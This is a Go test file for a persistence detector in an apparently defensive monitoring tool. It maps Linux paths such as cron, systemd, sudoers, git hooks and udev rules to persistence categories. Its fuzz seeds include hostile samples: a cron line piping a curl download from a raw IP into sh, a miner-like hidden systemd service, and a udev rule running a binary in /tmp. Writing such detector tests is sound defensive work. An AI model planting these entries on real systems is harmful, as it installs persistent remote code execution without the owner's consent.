package persistence

import (
	"testing"
	"time"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/detectortest"
)

func TestRecordings(t *testing.T) { detectortest.Run(t, New) }

func TestSpotOf(t *testing.T) {
	for path, want := range map[string]spot{
		"/etc/cron.d/x": cron, "/var/spool/cron/crontabs/root": cron, "/mnt/disk/etc/crontab": cron, "/etc/systemd/system/x.service": unit, "/home/a/.config/systemd/user/x.service": unit,
		"/etc/rc.local": startup, "/root/.bashrc": profile, "/etc/profile.d/x.sh": profile, "/etc/ld.so.preload": preload, "/root/.ssh/authorized_keys": keys, "/etc/sudoers.d/x": sudoers,
		"/data/gitea/x.git/hooks/post-receive": hook, "/data/x.git/hooks/post-receive.d/gitea": hook, "/home/git/.gitconfig": gitconfig, "/etc/udev/rules.d/99-x.rules": udev,
		"/data/x.git/hooks/post-receive.sample": none, "/etc/passwd": none, "": none, "/srv/hooks/readme": none, "/etc/update-motd.d/00-header": motd,
	} {
		if got := spotOf(path); got != want {
			t.Errorf("spotOf(%q) = %d, want %d", path, got, want)
		}
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("/etc/cron.d/x", "* * * * * root curl -s http://1.2.3.4/x | sh\n")
	f.Add("/etc/systemd/system/x.service", "[Service]\nNice=10\nCPUWeight=1\nExecStart=/root/.x/x -o a:1\n")
	f.Add("/etc/udev/rules.d/x", "RUN+=\"/tmp/x\"")
	f.Fuzz(func(t *testing.T, path, text string) {
		d, err := New(minewarden.Env{})
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range d.Observe(&minewarden.Event{Time: time.Unix(1, 0), Data: &minewarden.Write{Path: path, Op: "modify", Head: []byte(text)}}) {
			if found.Confidence <= 0 || len(found.Evidence) == 0 {
				t.Errorf("%+v", found)
			}
		}
	})
}

func BenchmarkElsewhere(b *testing.B) {
	d, err := New(minewarden.Env{})
	if err != nil {
		b.Fatal(err)
	}
	ev := &minewarden.Event{Data: &minewarden.Write{Path: "/var/lib/postgresql/17/main/base/1/1259", Op: "modify"}}
	b.ReportAllocs()
	for b.Loop() {
		d.Observe(ev)
	}
}
